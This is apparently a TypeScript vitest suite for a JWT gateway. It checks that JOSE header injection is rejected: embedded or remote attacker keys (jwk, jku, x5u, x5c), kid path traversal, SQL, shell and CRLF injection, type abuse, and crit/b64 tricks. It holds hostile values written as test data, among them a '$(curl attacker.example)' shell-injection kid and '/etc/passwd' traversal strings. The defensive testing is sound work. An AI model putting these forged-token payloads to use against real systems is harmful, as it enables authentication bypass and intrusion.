/**
 * Attack class: JOSE header injection (RFC 8725 §3.10, RFC 7515 §4.1). Keys named by the token
 * itself (`jwk`, `jku`, `x5u`, `x5c`, `x5t`) must never be used or fetched; `kid` is an opaque
 * lookup key (traversal, injection and type abuse go nowhere); `crit` and `b64: false` are refused.
 */
import { createHash, type KeyObject } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'

import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestIssuer, type TestIssuer } from '../../src/testing/index.js'
import { keycloak } from '../../src/token/issuers.js'
import { bearer, type Case, INVALID_TOKEN, OK, useApps } from './helpers.js'
import {
  accessClaims,
  attackerKey,
  b64,
  hmacToken,
  type Json,
  kidOf,
  privateKeyOf,
  publicJwkOf,
  signInput,
  signWith,
} from './tokens.js'
import { selfSignedCertificate } from './x509.js'

let issuer: TestIssuer
let kid: string
let otherKid: string
let attacker: Server
let attackerUrl: string
let attackerHits = 0

const rsa = attackerKey('rsa')
const ec = attackerKey('ec')
const attackerCert = selfSignedCertificate()
const certKey = attackerCert.privateKey
const cert = { raw: attackerCert.der }
const attackerJwk = {
  ...(rsa.publicKey.export({ format: 'jwk' }) as Json),
  kid: 'attacker',
  alg: 'RS256',
  use: 'sig',
}

beforeAll(async () => {
  issuer = await createTestIssuer({ realms: ['acme', 'other'], audience: 'gateway' })
  kid = await kidOf(issuer, 'RS256', 'acme')
  otherKid = await kidOf(issuer, 'RS256', 'other')
  // Serves the attacker's keys (and certificate) at every path, and counts who asks.
  attacker = createServer((_req, res) => {
    attackerHits += 1
    res.writeHead(200, { 'content-type': 'application/json' })
    res.end(JSON.stringify({ keys: [attackerJwk] }))
  })
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve))
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`
})
afterAll(async () => {
  attacker.closeAllConnections()
  await new Promise((resolve) => attacker.close(resolve))
  await issuer.close()
})

// Only acme is trusted; "other" exists at the same provider and serves its own keys.
const apps = useApps(() => ({
  issuers: keycloak({ authUrl: issuer.url, realms: ['acme'] }),
  audience: 'gateway',
}))

const claims = (overrides: Json = {}) => accessClaims(issuer, { exp: 4_102_444_800, ...overrides })
const signedByIssuer = (header: Json) =>
  signWith(privateKeyOf(issuer, kid), 'RS256', header, claims())
const signedByAttacker = (header: Json, key: KeyObject = rsa.privateKey, alg = 'RS256') =>
  signWith(key, alg, header, claims())

const embeddedKeys: Case[] = [
  [
    'an embedded attacker jwk, no kid',
    () => bearer(signedByAttacker({ alg: 'RS256', jwk: attackerJwk })),
    INVALID_TOKEN,
  ],
  [
    'an embedded attacker jwk with its own kid',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: 'attacker', jwk: attackerJwk })),
    INVALID_TOKEN,
  ],
  [
    'an embedded attacker jwk with the trusted kid',
    () => bearer(signedByAttacker({ alg: 'RS256', kid, jwk: { ...attackerJwk, kid } })),
    INVALID_TOKEN,
  ],
  [
    'an embedded attacker EC jwk (ES256)',
    () =>
      bearer(
        signedByAttacker(
          { alg: 'ES256', jwk: ec.publicKey.export({ format: 'jwk' }) },
          ec.privateKey,
          'ES256',
        ),
      ),
    INVALID_TOKEN,
  ],
  [
    'the trusted public jwk embedded, signed by the attacker',
    () => bearer(signedByAttacker({ alg: 'RS256', kid, jwk: publicJwkOf(issuer, kid) })),
    INVALID_TOKEN,
  ],
  [
    'an embedded symmetric jwk (kty oct) with HS256',
    () =>
      bearer(
        hmacToken({ alg: 'HS256', jwk: { kty: 'oct', k: b64('secret') } }, claims(), 'secret'),
      ),
    INVALID_TOKEN,
  ],
]

const keyUrls: Case[] = [
  [
    'jku pointing at the attacker, attacker kid',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: 'attacker', jku: `${attackerUrl}/jwks` })),
    INVALID_TOKEN,
  ],
  [
    'jku pointing at the attacker, trusted kid',
    () => bearer(signedByAttacker({ alg: 'RS256', kid, jku: `${attackerUrl}/jwks` })),
    INVALID_TOKEN,
  ],
  [
    "jku pointing at another realm of the same provider, signed by that realm's key",
    () =>
      bearer(
        signWith(
          privateKeyOf(issuer, otherKid),
          'RS256',
          { alg: 'RS256', kid: otherKid, jku: issuer.jwksUri('other') },
          claims(),
        ),
      ),
    INVALID_TOKEN,
  ],
  [
    'jku with a file: URL',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: 'attacker', jku: 'file:///etc/passwd' })),
    INVALID_TOKEN,
  ],
  [
    'x5u pointing at the attacker',
    () => bearer(signedByAttacker({ alg: 'RS256', x5u: `${attackerUrl}/cert.pem` })),
    INVALID_TOKEN,
  ],
  [
    'x5c with the attacker certificate, no kid',
    () => bearer(signedByAttacker({ alg: 'RS256', x5c: [cert.raw.toString('base64')] }, certKey)),
    INVALID_TOKEN,
  ],
  [
    'x5c with the attacker certificate and the trusted kid',
    () =>
      bearer(signedByAttacker({ alg: 'RS256', kid, x5c: [cert.raw.toString('base64')] }, certKey)),
    INVALID_TOKEN,
  ],
  [
    'x5t#S256 of the attacker certificate',
    () =>
      bearer(
        signedByAttacker(
          { alg: 'RS256', 'x5t#S256': createHash('sha256').update(cert.raw).digest('base64url') },
          certKey,
        ),
      ),
    INVALID_TOKEN,
  ],
  [
    'a genuine signature whose header also names attacker jku, x5u and x5c (ignored)',
    () =>
      bearer(
        signedByIssuer({
          alg: 'RS256',
          kid,
          jku: `${attackerUrl}/jwks`,
          x5u: `${attackerUrl}/cert.pem`,
          x5c: [cert.raw.toString('base64')],
        }),
      ),
    OK,
  ],
]

const kidAbuse: Case[] = [
  [
    'kid ../../dev/null with HS256 and an empty secret',
    () => bearer(hmacToken({ alg: 'HS256', kid: '../../../../../../dev/null' }, claims(), '')),
    INVALID_TOKEN,
  ],
  [
    'kid ../../dev/null signed by the attacker (RS256)',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: '../../../../../../dev/null' })),
    INVALID_TOKEN,
  ],
  [
    'kid /etc/passwd',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: '/etc/passwd' })),
    INVALID_TOKEN,
  ],
  [
    'kid with SQL injection and HS256 "secret"',
    () =>
      bearer(hmacToken({ alg: 'HS256', kid: "x' UNION SELECT 'secret' -- " }, claims(), 'secret')),
    INVALID_TOKEN,
  ],
  [
    'kid with shell injection',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: '$(curl attacker.example)|id;`id`' })),
    INVALID_TOKEN,
  ],
  [
    'kid with a URL',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: `${attackerUrl}/jwks` })),
    INVALID_TOKEN,
  ],
  [
    'kid with CRLF and a header line',
    () => bearer(signedByAttacker({ alg: 'RS256', kid: 'x\r\nSet-Cookie: pwned=1' })),
    INVALID_TOKEN,
  ],
  [
    'the trusted kid with a NUL appended, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: `${kid}\u0000` })),
    INVALID_TOKEN,
  ],
  [
    'the trusted kid with a NUL prepended, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: `\u0000${kid}` })),
    INVALID_TOKEN,
  ],
  [
    'the trusted kid upper-cased, genuine signature',
    () =>
      bearer(
        signedByIssuer({
          alg: 'RS256',
          kid: kid.toUpperCase() === kid ? kid.toLowerCase() : kid.toUpperCase(),
        }),
      ),
    INVALID_TOKEN,
  ],
  [
    'the trusted kid with a trailing space, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: `${kid} ` })),
    INVALID_TOKEN,
  ],
  [
    'an empty kid, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: '' })),
    INVALID_TOKEN,
  ],
  [
    'a 257-character kid',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 'k'.repeat(257) })),
    INVALID_TOKEN,
  ],
  [
    'a 5,000-character kid',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 'k'.repeat(5000) })),
    INVALID_TOKEN,
  ],
  [
    'kid 0 (number), genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 0 })),
    INVALID_TOKEN,
  ],
  [
    'kid 123 (number), genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 123 })),
    INVALID_TOKEN,
  ],
  [
    'kid true, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: true })),
    INVALID_TOKEN,
  ],
  [
    'kid null, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: null })),
    INVALID_TOKEN,
  ],
  [
    'kid [trusted kid], genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: [kid] })),
    INVALID_TOKEN,
  ],
  [
    'kid {"kid": trusted kid}, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: { kid } })),
    INVALID_TOKEN,
  ],
  [
    'kid "__proto__", genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: '__proto__' })),
    INVALID_TOKEN,
  ],
  [
    'kid "constructor", genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 'constructor' })),
    INVALID_TOKEN,
  ],
  [
    'kid "hasOwnProperty", genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid: 'hasOwnProperty' })),
    INVALID_TOKEN,
  ],
  [
    'kid "toString", HS256 keyed with "[object Object]"',
    () => bearer(hmacToken({ alg: 'HS256', kid: 'toString' }, claims(), '[object Object]')),
    INVALID_TOKEN,
  ],
  [
    "the other realm's kid on a token claiming acme",
    () =>
      bearer(
        signWith(
          privateKeyOf(issuer, otherKid),
          'RS256',
          { alg: 'RS256', kid: otherKid },
          claims(),
        ),
      ),
    INVALID_TOKEN,
  ],
]

/** RFC 7797 unencoded payload: the signing input is `header.` + the raw payload. */
function unencoded(extra: Json): string {
  const header = { alg: 'RS256', kid, b64: false, ...extra }
  const payload = JSON.stringify(claims())
  const signature = signInput(privateKeyOf(issuer, kid), 'RS256', `${b64(header)}.${payload}`)
  // Detached form: the payload segment is empty (RFC 7797 §5.2); and an attached one with it base64url'd.
  return `${b64(header)}.${b64(payload)}.${signature.toString('base64url')}`
}

const critical: Case[] = [
  [
    'crit ["exp"], genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, crit: ['exp'] })),
    INVALID_TOKEN,
  ],
  [
    'crit [], genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, crit: [] })),
    INVALID_TOKEN,
  ],
  [
    'crit "b64" (a string), genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, crit: 'b64' })),
    INVALID_TOKEN,
  ],
  [
    'crit naming an unknown extension that is present, genuine signature',
    () =>
      bearer(
        signedByIssuer({
          alg: 'RS256',
          kid,
          crit: ['https://example.com/ext'],
          'https://example.com/ext': true,
        }),
      ),
    INVALID_TOKEN,
  ],
  [
    'crit null, genuine signature',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, crit: null })),
    INVALID_TOKEN,
  ],
  [
    'b64: false with crit ["b64"], signed over the raw payload',
    () => bearer(unencoded({ crit: ['b64'] })),
    INVALID_TOKEN,
  ],
  [
    'b64: false without crit, signed over the raw payload',
    () => bearer(unencoded({})),
    INVALID_TOKEN,
  ],
  [
    'b64: false with crit ["b64"], signed the usual way',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, b64: false, crit: ['b64'] })),
    INVALID_TOKEN,
  ],
  [
    'b64: false without crit, signed the usual way',
    () => bearer(signedByIssuer({ alg: 'RS256', kid, b64: false })),
    INVALID_TOKEN,
  ],
]

describe.each([
  ['keys embedded in the header (jwk)', embeddedKeys],
  ['keys named by URL or certificate (jku, x5u, x5c, x5t)', keyUrls],
  ['kid traversal, injection and type abuse', kidAbuse],
  ['crit and b64', critical],
] as const)('header injection: %s', (_title, cases) => {
  it.each(cases)('%s', async (_name, probe, expected) => {
    const answers = await apps.expectAll(await probe(), expected)
    for (const answer of answers) expect(answer.headers['set-cookie']).toBeUndefined()
  })
})

describe('header injection: side effects', () => {
  it('never contacts a URL named in a token', () => {
    expect(attackerHits).toBe(0)
  })

  it("never fetches the untrusted realm's keys", () => {
    expect(issuer.fetchCount('other')).toBe(0)
  })
})
